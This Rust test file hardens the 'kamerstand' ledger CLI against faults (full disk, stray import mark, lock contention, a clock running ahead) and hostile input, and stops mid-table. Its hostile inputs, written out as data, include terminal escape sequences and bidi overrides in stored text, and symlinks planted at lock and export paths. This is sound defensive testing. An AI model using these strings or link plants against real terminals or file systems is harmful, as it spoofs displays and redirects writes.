//! Hardening (issue 13): what a hostile file, a full disk, a planted link
//! or a wrong clock does. Each test is a row of the fault or hostile-input
//! catalog in docs/reliability.md.
//!
//! Faults that leave sled unable to close (a full disk) run the real binary,
//! each run bounded by a generous deadline that fails the test instead of
//! hanging the suite; the rest run the CLI in-process with the pinned clock.

use crate::common::{ACTOR, Output, TestEnv, head_at, raw, read_all, wait_for};
use kamerstand::domain::invisible::shown_escaped;
use kamerstand::domain::{Day, EventBody, EventId, ItemKind, Responsible, Timestamp};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// How long any one command may take before the test calls it hung. Far
/// above what a command needs on a loaded machine; it only turns a hang
/// into a failure.
const HUNG: Duration = Duration::from_secs(180);

/// Runs `cmd` to completion with its output in files (so that a full pipe
/// cannot stall it), failing the test if it runs past [`HUNG`].
fn bounded(mut cmd: Command, dir: &Path, what: &str) -> Output {
    let out_path = dir.join("bounded.out");
    let err_path = dir.join("bounded.err");
    cmd.stdout(std::fs::File::create(&out_path).unwrap())
        .stderr(std::fs::File::create(&err_path).unwrap());
    let mut child = cmd.spawn().unwrap();
    let started = Instant::now();
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if started.elapsed() > HUNG {
            let _ = child.kill();
            let _ = child.wait();
            panic!(
                "{what} did not end within {HUNG:?}: it hangs\n--- stderr\n{}",
                std::fs::read_to_string(&err_path).unwrap_or_default()
            );
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    Output {
        stdout: std::fs::read_to_string(&out_path).unwrap(),
        stderr: std::fs::read_to_string(&err_path).unwrap(),
        code: status.code().unwrap_or(-1),
    }
}

/// The real binary against `env`'s store, run through `sh` with a file-size
/// limit of `blocks` (`ulimit -f`: 512-byte blocks in a POSIX shell) and
/// SIGXFSZ ignored, so that a write past the limit fails with EFBIG
/// instead of killing the process. No root needed.
fn limited(env: &TestEnv, blocks: u32, args: &[&str]) -> Command {
    let mut c = Command::new("sh");
    c.arg("-c")
        .arg("trap '' XFSZ; ulimit -f \"$1\" || exit 97; shift; exec \"$@\"")
        .arg("sh")
        .arg(blocks.to_string())
        .arg(env!("CARGO_BIN_EXE_kamerstand"))
        .arg("--store")
        .arg(&env.store)
        .args(args)
        .env("KAMERSTAND_ACTOR", ACTOR)
        .env_remove("KAMERSTAND_STORE")
        .env_remove("CLICOLOR_FORCE")
        .stdin(Stdio::null());
    c
}

/// A receipt: seq and hash of an acknowledged event.
type Receipt = (u64, String);

fn receipt_of(out: &Output) -> Receipt {
    let j = out.json();
    (
        j["seq"].as_u64().unwrap(),
        j["hash"].as_str().unwrap().to_string(),
    )
}

/// Long notes through `run` until one fails; every command must end. The
/// failure must be exit 1 with the full-disk message. Returns the receipts
/// of the notes that were acknowledged.
fn notes_until_full(
    env: &TestEnv,
    run: &dyn Fn(&[&str], Option<&Path>) -> Output,
    needles: &[&str],
) -> Vec<Receipt> {
    let note = env.dir.path().join("note.txt");
    let mut acked = Vec::new();
    for n in 0..200 {
        // Each note differs: the same note again is refused as a no-op.
        // Digits that do not repeat: a store compresses what it writes, and
        // a repeated sentence would never fill the disk.
        let mut x = 0x9e37_79b9_7f4a_7c15_u64 ^ n;
        let digits: String = (0..40_000)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                char::from(b"0123456789abcdef"[usize::try_from(x % 16).unwrap()])
            })
            .collect();
        std::fs::write(&note, format!("{n}. Een lange voortgangsnotitie: {digits}")).unwrap();
        let out = run(&["--format", "json", "note", "M1", "-"], Some(&note));
        if out.code == 0 {
            acked.push(receipt_of(&out));
            continue;
        }
        out.refusal(1, "a note on a full disk", needles);
        assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
        // Still full: every command ends, served or refused for that reason.
        for args in [
            &["verify"][..],
            &["overview"],
            &["log"],
            &["--format", "json", "note", "M1", "Kort."],
        ] {
            let out = run(args, None);
            if out.code == 0 {
                if args.contains(&"note") {
                    acked.push(receipt_of(&out));
                }
            } else {
                out.refusal(1, &format!("{args:?} on a full disk"), needles);
            }
        }
        return acked;
    }
    panic!("the disk never filled up");
}

/// After room has returned: `verify` passes, every acknowledged event is at
/// its seq with its hash, and a new note is recorded.
fn all_acknowledged_are_there(env: &TestEnv, acked: &[Receipt]) {
    let dir = env.dir.path();
    let v = bounded(env.command(&["--format", "json", "verify"]), dir, "verify");
    v.ok();
    assert_eq!(v.json()["ok"], true, "{}", v.stdout);
    let log = bounded(env.command(&["--format", "json", "log"]), dir, "log").json();
    let events = log["events"].as_array().unwrap();
    for (seq, hash) in acked {
        let e = events
            .iter()
            .find(|e| e["seq"] == *seq)
            .unwrap_or_else(|| panic!("acknowledged seq {seq} is gone"));
        assert_eq!(e["hash"], hash.as_str(), "seq {seq}");
    }
    bounded(env.command(&["note", "M1", "Weer ruimte."]), dir, "note").ok();
}

// ------------------------------------------------------------- faults

/// Fault 1, without root: a process file-size limit (RLIMIT_FSIZE) is a
/// full disk as far as a writer can tell (EFBIG).
#[test]
fn a_file_size_limit_ends_every_command_with_exit_1_and_loses_nothing() {
    let env = TestEnv::new();
    let dir = env.dir.path().to_path_buf();
    bounded(env.command(&["init", "--programme", "NAP"]), &dir, "init").ok();
    bounded(
        env.command(&[
            "item", "add", "--kind", "motie", "--key", "M1", "--text", "x",
        ]),
        &dir,
        "item add",
    )
    .ok();
    let run = |args: &[&str], input: Option<&Path>| {
        let mut c = limited(&env, 2048, args);
        if let Some(p) = input {
            c.stdin(std::fs::File::open(p).unwrap());
        }
        bounded(c, &dir, &format!("{args:?} under a file-size limit"))
    };
    let acked = notes_until_full(
        &env,
        &run,
        &[
            "the disk is full",
            "file-size limit",
            "Nothing acknowledged before is lost",
            "make room there",
        ],
    );
    assert!(!acked.is_empty(), "the limit left no room for any note");
    all_acknowledged_are_there(&env, &acked);
}

/// A tmpfs of a given size, mounted for the test (root only).
struct Tmpfs(PathBuf);

impl Tmpfs {
    fn mount(at: &Path, size: &str) -> Option<Tmpfs> {
        std::fs::create_dir_all(at).unwrap();
        Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={size}"), "tmpfs"])
            .arg(at)
            .output()
            .is_ok_and(|o| o.status.success())
            .then(|| Tmpfs(at.to_path_buf()))
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let ok = Command::new("umount")
            .arg(&self.0)
            .output()
            .is_ok_and(|o| o.status.success());
        if !ok {
            let _ = Command::new("umount").arg("-l").arg(&self.0).output();
        }
    }
}

/// Fault 1 as reported: a 2 MiB file system filled by long notes. Reads on
/// it used to hang for ever (sled, splitting a node it read, failed to
/// write a blob and then waited at close for a buffer that never
/// completed). Root only; skipped with a note elsewhere.
#[test]
fn a_full_small_file_system_ends_every_command_and_loses_nothing() {
    let mut env = TestEnv::new();
    let Some(fs) = Tmpfs::mount(&env.dir.path().join("klein"), "2m") else {
        eprintln!("note: skipped the 2 MiB file system: this process cannot mount a tmpfs");
        return;
    };
    env.store = fs.0.join("ledger");
    let dir = env.dir.path().to_path_buf();
    bounded(env.command(&["init", "--programme", "NAP"]), &dir, "init").ok();
    bounded(
        env.command(&[
            "item", "add", "--kind", "motie", "--key", "M1", "--text", "x",
        ]),
        &dir,
        "item add",
    )
    .ok();
    let run = |args: &[&str], input: Option<&Path>| {
        let mut c = env.command(args);
        if let Some(p) = input {
            c.stdin(std::fs::File::open(p).unwrap());
        }
        bounded(c, &dir, &format!("{args:?} on a full file system"))
    };
    let acked = notes_until_full(
        &env,
        &run,
        &[
            "the disk is full",
            "No space left on device",
            "Nothing acknowledged before is lost",
        ],
    );
    // Room again.
    let grown = Command::new("mount")
        .args(["-o", "remount,size=64m"])
        .arg(&fs.0)
        .output()
        .unwrap();
    assert!(grown.status.success(), "{grown:?}");
    all_acknowledged_are_there(&env, &acked);
    drop(fs);
}

/// Fault 3: the mark an events import leaves while it runs, beside a head
/// (a stray one: the head is written and the mark removed in one
/// transaction). It made the store open as "holds no ledger" and a new
/// import refuse it as "a ledger already exists".
#[test]
fn a_stray_import_mark_beside_a_head_is_removed_and_the_ledger_opens() {
    let env = TestEnv::init();
    env.add(&["--kind", "motie", "--key", "M1", "--text", "Een motie."]);
    let head = env.head().unwrap();
    raw::edit(&env, |r| {
        r.meta.insert("restoring", &[] as &[u8]).unwrap();
    });
    let o = env.json(&["overview"]);
    assert_eq!(o["items"][0]["key"], "M1");
    assert!(
        !raw::edit(&env, |r| r.meta.contains_key("restoring").unwrap()),
        "the stray mark is still there"
    );
    assert_eq!(env.head(), Some(head));
    env.run(&["verify"]).ok();
    env.run(&["note", "M1", "Gewoon verder."]).ok();
}

/// Fault 3, the other way round: a mark without a head is an interrupted
/// import, and the message names both ways out, which work.
#[test]
fn an_interrupted_import_names_its_ways_out_and_init_is_one() {
    let env = TestEnv::new();
    raw::interrupted_import(&env, &[]);
    let out = env.run(&["overview"]);
    out.refusal(
        2,
        "overview of an interrupted import",
        &[
            "was interrupted before it finished",
            "run the import again with the same --store",
            "`kamerstand init`",
        ],
    );
    env.run(&["init", "--programme", "NAP"]).ok();
    env.run(&["verify"]).ok();
}

/// Fault 4: `--wait` covers sled's own lock on `db`, which another program
/// (here: this test, through sled) can hold without holding ours.
#[test]
fn wait_covers_the_storage_engines_own_lock() {
    let env = TestEnv::init();
    env.add(&["--kind", "motie", "--key", "M1", "--text", "Een motie."]);
    let dir = env.dir.path().to_path_buf();
    let db = {
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            match sled::Config::new()
                .path(&env.store)
                .use_compression(kamerstand::ledger::compressed(&env.store))
                .open()
            {
                Ok(db) => break db,
                Err(_) if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(5)),
                Err(e) => panic!("cannot open the store with sled: {e}"),
            }
        }
    };
    // Without --wait: refused once sled's short grace has passed, naming
    // sled's lock, not ours.
    let out = bounded(env.command(&["overview"]), &dir, "overview");
    out.refusal(1, "overview while sled is held", &["own lock", "--wait"]);
    // With --wait: it waits past that grace for sled's lock, and proceeds.
    let mut cmd = env.command(&["--wait", "120", "note", "M1", "Na het wachten."]);
    let out_path = dir.join("waiter.out");
    let err_path = dir.join("waiter.err");
    cmd.stdout(std::fs::File::create(&out_path).unwrap())
        .stderr(std::fs::File::create(&err_path).unwrap());
    let mut child = cmd.spawn().unwrap();
    // It holds our lock (its pid is in the lock file) and so is waiting
    // for sled's.
    let lock = env.store.join("kamerstand.lock");
    let pid = child.id().to_string();
    let started = Instant::now();
    while std::fs::read_to_string(&lock).unwrap_or_default().trim() != pid {
        assert!(started.elapsed() < HUNG, "the waiter never took our lock");
        assert!(
            child.try_wait().unwrap().is_none(),
            "the waiter ended early: {}",
            std::fs::read_to_string(&err_path).unwrap_or_default()
        );
        std::thread::sleep(Duration::from_millis(10));
    }
    // Past the two-second grace without --wait.
    std::thread::sleep(Duration::from_secs(3));
    assert!(
        child.try_wait().unwrap().is_none(),
        "the waiter gave up: {}",
        std::fs::read_to_string(&err_path).unwrap_or_default()
    );
    drop(db);
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if started.elapsed() > HUNG {
            let _ = child.kill();
            panic!("the waiter did not end after sled's lock was released");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    assert!(
        status.success(),
        "{}",
        std::fs::read_to_string(&err_path).unwrap_or_default()
    );
    let show = env.json(&["show", "M1"]);
    assert_eq!(show["latest_note"]["text"], "Na het wachten.");
}

/// Fault 14 (the clock side): a head recorded later than the clock by
/// more than five minutes refuses appends, with what happened and what to
/// do, instead of stamping every later event (and the default effective
/// date) with the head's time. Within five minutes the head's time is
/// used; once the clock has caught up, appends go on.
#[test]
fn a_head_ahead_of_the_clock_refuses_appends_until_the_clock_catches_up() {
    let env = TestEnv::init();
    env.add(&["--kind", "motie", "--key", "M1", "--text", "Een motie."]);
    // A clock that ran ahead for one command.
    env.set_clock("2262-04-11T23:00:00Z");
    env.run(&[
        "note",
        "M1",
        "Uit de toekomst.",
        "--effective",
        "2025-01-06",
    ])
    .ok();
    let head = env.head().unwrap();
    env.set_clock("2025-01-06T12:00:00Z");
    let out = env.refused_in(&["note", "M1", "Nu."], b"", 1, &[]);
    for needle in [
        "the ledger's last event (seq 2) was recorded at 2262-04-11T23:0",
        "later than this computer's clock (2025-01-06T12:",
        "Nothing was written",
        "set it right",
        "export it with `kamerstand export --format events`",
    ] {
        assert!(out.stderr.contains(needle), "{needle:?}:\n{}", out.stderr);
    }
    // Reads go on, and today is the clock's today.
    env.run(&["overview"]).ok();
    let dry = env.run(&["--format", "json", "show", "M1"]).json();
    assert_eq!(dry["latest_note"]["text"], "Uit de toekomst.");
    // Four minutes behind the head: accepted, at the head's time.
    env.clock.set(Timestamp::from_unix_nanos(
        head.recorded_at.unix_nanos() - 4 * 60_000_000_000,
    ));
    let j = env.json(&["note", "M1", "Bijna.", "--effective", "2025-01-06"]);
    assert_eq!(
        j["recorded_at"].as_str().unwrap(),
        head.recorded_at.rfc3339()
    );
    env.run(&["verify"]).ok();
}

// ------------------------------------------------------ hostile input

/// A character that would steer a terminal, found raw in `s`.
fn raw_control(s: &str) -> Option<char> {
    s.chars().find(|c| shown_escaped(*c))
}

fn event_id(hex: &str) -> EventId {
    let mut id = [0u8; 16];
    for (i, b) in id.iter_mut().enumerate() {
        *b = u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).unwrap();
    }
    EventId(id)
}

/// A ledger whose events carry escape sequences, bidi overrides and other
/// controls in every kind of text, as an events import or an annex import
/// could store them (appended through the library, which leaves judging
/// text to the CLI's parsers).
fn poisoned() -> TestEnv {
    const CLEAR: &str = "\u{1b}[2J\u{1b}[H";
    const TITLE: &str = "\u{1b}]0;gekaapt\u{7}";
    let env = TestEnv::init();
    env.add(&[
        "--kind",
        "motie",
        "--key",
        "M1",
        "--text",
        "Een motie.",
        "--submitter",
        "Jansen",
    ]);
    let m1 = event_id(&env.id_of("M1"));
    let key: kamerstand::domain::ItemKey = serde_json::from_str("\"M\\u001b[2J\"").unwrap();
    let day = Day::parse("d", "2025-01-02").unwrap();
    let bodies = vec![
        EventBody::ItemRegistered {
            kind: ItemKind::Toezegging,
            key,
            text: format!("Tekst{CLEAR}weg\rover"),
            submitters: vec!["Jan\u{202e}nesnaJ".into()],
            citations: vec![format!("Kamerstukken II{TITLE}")],
            responsible: Responsible::none(),
            status: "in-uitvoering".into(),
            effective: day,
        },
        EventBody::ProgressNoted {
            item: m1,
            text: format!("Voortgang{CLEAR}{TITLE}\u{9b}31mrood\u{202e}tseb"),
            citations: vec![],
            effective: day,
        },
        EventBody::StatusChanged {
            item: m1,
            status: "vertraagd".into(),
            reason: Some(format!("Reden{CLEAR}")),
            effective: day,
        },
        EventBody::RoundSealed {
            // Round names are checked as events are (letters, digits and
            // - _ . only): an escape code there is a broken rule, which no
            // read gets past (see tamper::impossible_*). The title is free.
            name: "R1".into(),
            title: format!("Ronde{TITLE}"),
            reported_on: day,
            head_seq: 0,
            head_hash: kamerstand::domain::EventHash::GENESIS,
        },
    ];
    let mut n = 0u8;
    raw::edit(&env, |r| {
        r.plant(&format!("mallory\u{1b}[31m{TITLE}"), bodies, &mut || {
            n += 1;
            [
                0x01, 0x94, 0x3a, 0xda, 0x69, 0xa0, 0x70, 0, 0x80, 0, 0, 0, 0, 0, 0xee, n,
            ]
        });
    });
    env
}

/// Hostile input 6: stored escape sequences are shown as escapes by every
/// human-readable output (tables, show, log, diff, round list and digest,
/// verify), in-process and through the real binary with colour forced on,
/// where the only escape codes left are the status markers' own.
#[test]
fn stored_escape_sequences_are_shown_not_obeyed() {
    let env = poisoned();
    let t1 = env.id_of("M\u{1b}[2J");
    let commands: Vec<Vec<String>> = [
        vec!["log"],
        vec!["show", "M1"],
        vec!["show", &t1],
        vec!["overview"],
        vec!["item", "list"],
        vec!["round", "list"],
        vec!["verify"],
        vec!["diff", "2025-01-01", "2025-01-07"],
        vec!["note", &t1, "Gewoon."],
    ]
    .iter()
    .map(|c| c.iter().map(|s| (*s).to_string()).collect())
    .collect();
    for args in &commands {
        let out = env.run_owned(args);
        out.ok();
        assert_eq!(raw_control(&out.stdout), None, "{args:?}:\n{}", out.stdout);
    }
    let log = env.run(&["log"]).stdout;
    assert!(log.contains("mallory\\u{1b}[3…"), "{log}");
    let show = env.run(&["show", "M1"]).stdout;
    assert!(
        show.contains(
            "Voortgang\\u{1b}[2J\\u{1b}[H\\u{1b}]0;gekaapt\\u{7}\\u{9b}31mrood\\u{202e}tseb"
        ),
        "{show}"
    );
    assert!(
        show.contains("door mallory\\u{1b}[31m\\u{1b}]0;gekaapt\\u{7}):"),
        "{show}"
    );
    let t = env.run(&["show", &t1]).stdout;
    assert!(t.contains("Tekst\\u{1b}[2J\\u{1b}[Hweg\\rover"), "{t}");
    assert!(t.contains("Jan\\u{202e}nesnaJ"), "{t}");
    // The receipt names the stored key escaped.
    let r = env.run(&["note", &t1, "Nog eens."]).stdout;
    assert!(r.starts_with("M\\u{1b}[2J: "), "{r}");
    // The round's digest line and its name in messages.
    let d = env.run(&["round", "digest", "R1"]);
    d.ok();
    assert_eq!(raw_control(&d.stdout), None, "{}", d.stdout);
    let e = env.run(&["overview", "--round", "R\u{1b}[2J"]);
    e.expect_code(2);
    assert_eq!(raw_control(&e.stderr), None, "{}", e.stderr);
    // JSON keeps the text exactly (its escaping is inert).
    let j = env.json(&["show", "M1"]);
    assert!(
        j["latest_note"]["text"]
            .as_str()
            .unwrap()
            .contains('\u{1b}')
    );
    // A terminal: colour forced on, through the real binary.
    for args in [
        &["overview"][..],
        &["show", "M1"],
        &["log"],
        &["item", "list"],
    ] {
        let out = env
            .command(args)
            .env("CLICOLOR_FORCE", "1")
            .output()
            .unwrap();
        assert!(out.status.success(), "{args:?}: {out:?}");
        let text = String::from_utf8(out.stdout).unwrap();
        let mut rest = text.clone();
        // Remove the status markers: ESC [ 38;2;R;G;B m ● ESC [ 0 m (or 38;5;N).
        while let Some(at) = rest.find("\u{1b}[38;") {
            let end = rest[at..]
                .find("\u{1b}[0m")
                .map(|e| at + e + "\u{1b}[0m".len())
                .unwrap_or_else(|| panic!("{args:?}: an unterminated escape: {text:?}"));
            assert!(
                rest[at..end].contains('●'),
                "{args:?}: {:?}",
                &rest[at..end]
            );
            rest.replace_range(at..end, "");
        }
        assert_eq!(raw_control(&rest), None, "{args:?}: {text:?}");
    }
}

/// Hostile input 6, error messages: input they quote is shown escaped.
#[test]
fn error_messages_quote_input_escaped() {
    let env = TestEnv::init();
    for args in [
        &["show", "M\u{1b}[2J"][..],
        &["note", "M1", "a\u{1b}]0;x\u{7}b"],
        &["--actor", "Anna\u{202e}annA", "overview"],
        &["overview", "--as-of", "gisteren\u{1b}[2J"],
    ] {
        let out = env.run(args);
        assert_eq!(out.code, 2, "{args:?}: {out:?}");
        assert_eq!(raw_control(&out.stderr), None, "{args:?}: {}", out.stderr);
        assert!(out.stderr.contains("\\u{"), "{args:?}: {}", out.stderr);
    }
}

/// Hostile input 9: invisible and bidi characters in names are refused
/// wherever a name enters; free text refuses bidi controls and keeps
/// emoji sequences.
#[test]
fn lookalike_names_are_refused_and_free_text_keeps_emoji() {
    let env = TestEnv::init();
    env.add(&["--kind", "motie", "--key", "M1", "--text", "Een motie."]);
    let head = env.head();
    let rlo = "J. de Vries\u{202e}seirV";
    const HIDDEN: &str = "is not accepted";
    let cases: Vec<(Vec<&str>, &[&str])> = vec![
        (
            vec!["--actor", rlo, "note", "M1", "x"],
            &["--actor", HIDDEN],
        ),
        (
            vec!["--actor", "An\u{200b}na", "note", "M1", "x"],
            &["--actor", HIDDEN],
        ),
        (
            vec!["--actor", "\u{feff}Anna", "note", "M1", "x"],
            &["--actor", HIDDEN],
        ),
        (
            vec!["--actor", "Anna\u{2066}", "note", "M1", "x"],
            &["--actor", HIDDEN],
        ),
        (
            vec![
                "item",
                "add",
                "--kind",
                "motie",
                "--text",
                "t",
                "--submitter",
                rlo,
            ],
            &["--submitter", HIDDEN],
        ),
        (
            vec![
                "item",
                "add",
                "--kind",
                "motie",
                "--text",
                "t",
                "--key",
                "M\u{202e}2",
            ],
            &["key", "A-Z a-z 0-9"],
        ),
        (vec!["round", "seal", "R\u{200b}1"], &["round name"]),
        (
            vec!["round", "seal", "R1", "--title", "Brief\u{202e}"],
            &["--title", HIDDEN],
        ),
        (
            vec!["note", "M1", "t", "--ref-raw", "Kamerstukken\u{200d} II"],
            &["--ref-raw", HIDDEN],
        ),
        (
            vec!["note", "M1", "Omgekeerd \u{202e}tseb"],
            &["note text", HIDDEN],
        ),
        (
            vec!["note", "M1", "Verborgen \u{e0041}\u{e0042}"],
            &["note text", HIDDEN],
        ),
    ];
    for (args, needles) in cases {
        let out = env.run(&args);
        out.refusal(2, &format!("{args:?}"), needles);
        assert_eq!(raw_control(&out.stderr), None, "{}", out.stderr);
        assert!(out.stderr.contains("\\u{"), "{}", out.stderr);
        assert_eq!(env.head(), head, "{args:?} wrote");
    }
    // From the environment, through the real binary.
    let out = env
        .command(&["note", "M1", "x"])
        .env("KAMERSTAND_ACTOR", rlo)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("\\u{202e}"));
    // A CSV submitter.
    let csv = env.dir.path().join("items.csv");
    std::fs::write(
        &csv,
        format!("kind,text,submitters\nmotie,Een motie.,{rlo}\n"),
    )
    .unwrap();
    let out = env.run(&["import", csv.to_str().unwrap()]);
    out.refusal(2, "CSV submitter", &["is not accepted"]);
    // A new ledger's programme name.
    let other = TestEnv::new();
    other.run(&["init", "--programme", "NAP\u{200b}"]).refusal(
        2,
        "programme",
        &["--programme", "is not accepted"],
    );
    // Free text keeps an emoji with its joiner and selector, exactly.
    let emoji = "Overleg \u{1f469}\u{200d}\u{1f4bb} en \u{2764}\u{fe0f}";
    env.run(&["note", "M1", emoji]).ok();
    assert_eq!(env.json(&["show", "M1"])["latest_note"]["text"], emoji);
}

#[cfg(unix)]
fn symlink(target: &Path, link: &Path) {
    std::os::unix::fs::symlink(target, link).unwrap();
}

/// Hostile input 13: a link planted as the lock file is not followed; the
/// command stops before writing, and the link's target is untouched.
#[cfg(unix)]
#[test]
fn a_link_planted_as_the_lock_file_is_not_followed() {
    let env = TestEnv::init();
    let victim = env.dir.path().join("victim.txt");
    std::fs::write(&victim, "onaangetast").unwrap();
    let lock = env.store.join("kamerstand.lock");
    std::fs::remove_file(&lock).unwrap();
    symlink(&victim, &lock);
    for args in [&["overview"][..], &["note", "M1", "x"], &["verify"]] {
        let out = env.run(args);
        out.refusal(
            1,
            &format!("{args:?}"),
            &["kamerstand.lock", "symbolic link"],
        );
    }
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "onaangetast");
    // A hard link is refused too: the pid written into it would land in
    // the other file.
    std::fs::remove_file(&lock).unwrap();
    std::fs::hard_link(&victim, &lock).unwrap();
    env.run(&["overview"])
        .refusal(1, "hard link", &["hard links"]);
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "onaangetast");
    std::fs::remove_file(&lock).unwrap();
    env.run(&["overview"]).ok();
}

/// Hostile input 13: links planted among the checkpoint files an earlier
/// version kept (which the migration to the index removes) are removed as
/// links, never followed.
#[cfg(unix)]
#[test]
fn links_planted_among_old_checkpoints_are_removed_not_followed() {
    let env = TestEnv::init();
    env.add(&["--kind", "motie", "--key", "M1", "--text", "Een motie."]);
    let victim = env.dir.path().join("victim.txt");
    std::fs::write(&victim, "onaangetast").unwrap();
    let victim_dir = env.dir.path().join("victim-dir");
    std::fs::create_dir_all(&victim_dir).unwrap();
    std::fs::write(victim_dir.join("keep.txt"), "blijft").unwrap();
    // An old store: no index mark, checkpoint files with links among them.
    raw::edit(&env, |r| {
        r.meta.remove("index").unwrap();
    });
    let dir = env.store.join("checkpoints");
    std::fs::create_dir_all(&dir).unwrap();
    symlink(&victim, &dir.join(format!("{:020}.ckpt", 9)));
    symlink(&victim_dir, &dir.join("sub"));
    env.run(&["note", "M1", "Notitie."]).ok();
    assert!(!dir.exists(), "the checkpoint files were left behind");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "onaangetast");
    assert_eq!(
        std::fs::read_to_string(victim_dir.join("keep.txt")).unwrap(),
        "blijft"
    );
}

/// Hostile input 13: `export -o` writes through a temporary file with an
/// unpredictable name; links planted at the name it used to use, or at the
/// target itself, do not lead it to another file.
#[cfg(unix)]
#[test]
fn export_to_a_file_does_not_follow_planted_links() {
    let env = TestEnv::init();
    env.add(&["--kind", "motie", "--key", "M1", "--text", "Een motie."]);
    let victim = env.dir.path().join("victim.txt");
    std::fs::write(&victim, "onaangetast").unwrap();
    let out_dir = env.dir.path().join("uit");
    std::fs::create_dir(&out_dir).unwrap();
    let target = out_dir.join("bijlage.html");
    symlink(&victim, &out_dir.join(".bijlage.html.kamerstand-tmp"));
    env.run(&["--format", "html", "export", "-o", target.to_str().unwrap()])
        .expect_code(0);
    assert!(
        std::fs::read_to_string(&target)
            .unwrap()
            .contains("Een motie.")
    );
    // A link at the target: replaced by the export, not written through.
    let linked = out_dir.join("backup.jsonl");
    symlink(&victim, &linked);
    env.run(&[
        "--format",
        "events",
        "export",
        "-o",
        linked.to_str().unwrap(),
    ])
    .expect_code(0);
    assert!(!std::fs::symlink_metadata(&linked).unwrap().is_symlink());
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "onaangetast");
    let left: Vec<String> = std::fs::read_dir(&out_dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".tmp"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

/// Hostile input 13: a store directory others can write is refused unless
/// `--allow-shared-store` is given; the sticky bit makes it private
/// enough; a new store is created private whatever the umask.
#[cfg(unix)]
#[test]
fn a_store_directory_others_can_write_is_refused_unless_allowed() {
    use std::os::unix::fs::PermissionsExt;
    let env = TestEnv::init();
    env.add(&["--kind", "motie", "--key", "M1", "--text", "Een motie."]);
    let mode = |m: u32| {
        std::fs::set_permissions(&env.store, std::fs::Permissions::from_mode(m)).unwrap();
    };
    let head = env.head();
    for (m, what) in [(0o775, "group-writable"), (0o757, "world-writable")] {
        mode(m);
        for args in [&["overview"][..], &["note", "M1", "x"]] {
            env.run(args).refusal(
                2,
                &format!("{args:?} on mode {m:o}"),
                &[what, "--allow-shared-store", "chmod go-w"],
            );
        }
        env.run(&["--allow-shared-store", "overview"]).ok();
    }
    mode(0o1777);
    env.run(&["overview"]).ok();
    mode(0o755);
    assert_eq!(env.head(), head, "a refused command wrote");
    env.run(&["note", "M1", "Weer privé."]).ok();
    // init into an existing empty shared directory.
    let shared = env.dir.path().join("gedeeld");
    std::fs::create_dir(&shared).unwrap();
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o777)).unwrap();
    let s = shared.to_str().unwrap();
    env.run_bare(&["--store", s, "init", "--programme", "NAP"])
        .refusal(2, "init into a shared dir", &["--allow-shared-store"]);
    env.run_bare(&[
        "--store",
        s,
        "--allow-shared-store",
        "init",
        "--programme",
        "NAP",
    ])
    .ok();
    // A new store is 0755 even under a group-writable umask: the binary,
    // run through sh with umask 002.
    let fresh = env.dir.path().join("nieuw");
    let out = Command::new("sh")
        .arg("-c")
        .arg("umask 002; exec \"$@\"")
        .arg("sh")
        .arg(env!("CARGO_BIN_EXE_kamerstand"))
        .arg("--store")
        .arg(&fresh)
        .args(["init", "--programme", "NAP"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let m = std::fs::metadata(&fresh).unwrap().permissions().mode() & 0o777;
    assert_eq!(m, 0o755);
}

/// Hostile input 14: an events file whose events are recorded in the
/// future (here 2262) is refused as a whole, naming the first such event;
/// no store is left behind.
#[test]
fn an_events_file_recorded_in_the_future_is_refused() {
    let source = TestEnv::init();
    source.add(&["--kind", "motie", "--key", "M1", "--text", "Een motie."]);
    source.set_clock("2262-04-11T23:00:00Z");
    source
        .run(&[
            "note",
            "M1",
            "Uit de toekomst.",
            "--effective",
            "2025-01-06",
        ])
        .ok();
    let dump = source.run(&["--format", "events", "export"]);
    dump.ok();
    let target = TestEnv::new();
    target.set_clock("2025-01-07T09:00:00Z");
    let path = target.dir.path().join("toekomst.jsonl");
    std::fs::write(&path, &dump.stdout).unwrap();
    let out = target.run(&["import", path.to_str().unwrap()]);
    out.refusal(
        2,
        "future events",
        &[
            "seq 2, recorded at 2262-04-11T23:0",
            "later than this computer's clock (2025-01-07T09:",
            "Nothing was imported",
            "the lines before seq 2",
        ],
    );
    assert!(!target.store.exists(), "a store was left behind");
    assert_eq!(head_at(&target.store), None);
    // The lines before it restore a ledger that can be written to.
    let first: String = dump
        .stdout
        .lines()
        .take(2)
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(&path, first).unwrap();
    target.run(&["import", path.to_str().unwrap()]).ok();
    target.run(&["note", "M1", "Nu wel."]).ok();
    let j = target.json(&["show", "M1"]);
    assert!(
        j["latest_note"]["effective"]
            .as_str()
            .unwrap()
            .starts_with("2025-")
    );
}

/// Hostile input 15: a date given for `--as-of` ends in the Dutch time of
/// its own day, for every era: summer time ended in September from 1981 to
/// 1995, there was none from 1946 to 1976, and before 1940 Amsterdam time
/// was 19 minutes and 32 seconds (later 20 minutes) ahead of UTC.
#[test]
fn dates_before_1996_end_in_the_dutch_time_of_their_day() {
    let env = TestEnv::init();
    for (day, offset, instant) in [
        ("1990-10-15", "UTC+1:00", "1990-10-15T22:59:59.999999999Z"),
        ("1990-08-15", "UTC+2:00", "1990-08-15T21:59:59.999999999Z"),
        ("1978-09-30", "UTC+2:00", "1978-09-30T21:59:59.999999999Z"),
